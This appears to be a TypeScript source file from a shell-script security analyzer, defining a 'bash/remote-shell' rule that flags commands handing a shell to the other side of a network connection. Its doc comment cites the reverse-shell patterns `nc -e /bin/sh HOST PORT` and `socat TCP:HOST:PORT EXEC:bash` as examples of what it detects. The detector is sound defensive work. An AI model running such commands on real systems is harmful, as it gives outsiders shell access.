import { patternsOf, type Role, roleOf } from "../../query/role.js";
import { layoutOf, lineOf } from "../layout.js";
import { optionWords, type Argument } from "./argument.js";
import type { Runner } from "./runner.js";

const remoteShell = "bash/remote-shell";

/** `nc -e /bin/sh HOST PORT`, `socat TCP:HOST:PORT EXEC:bash`: reports a shell that is handed to the other side of a connection. */
export function handShell(name: string, role: Role, args: readonly Argument[], runner: Runner): boolean {
  const words = optionWords(args);
  const layout = layoutOf(role);
  const line = lineOf(layout, words, 1);
  const entries = layout.words("hands");
  if (line === null || entries.length === 0) return false;
  const options = layout.options("hands");
  const given = line.options.flatMap((option) =>
    options.has(option.name) && option.valueAt >= 0 ? [{ at: option.valueAt, program: option.value ?? words[option.valueAt] ?? null }] : [],
  );
  const behind = line.operands.flatMap((at) => {
    const prefix = entries.find((entry) => entry.endsWith(":") && words[at]?.toUpperCase().startsWith(entry) === true);
    return prefix === undefined ? [] : [{ at, program: words[at]?.slice(prefix.length) ?? null }];
  });
  const shell = [...given, ...behind].find(({ program }) => program !== null && isShell(program, runner));
  const [word] = args;
  const last = shell === undefined ? undefined : args[shell.at];
  if (word === undefined || last === undefined) return false;
  const trace = [
    {
      step: "execute",
      span: word.span,
      message: `${name} lets the other side of the connection talk to a shell`,
      ...patternsOf(role),
    } as const,
  ];
  runner.report({ rule: role.rule ?? remoteShell, span: [word.span[0], Math.max(last.span[1], args.at(-1)?.span[1] ?? 0)], trace });
  return true;
}

/** The first word of a command line, without its folders, its quotes and what socat adds behind a comma. */
function isShell(program: string, runner: Runner): boolean {
  const name = /^["']?(?:\S*[\\/])?([\w.-]+)/.exec(program)?.[1] ?? "";
  return roleOf(runner.roles(name, []), "sink.interpreter") !== null || roleOf(runner.roles(name, []), "flow.launcher") !== null;
}
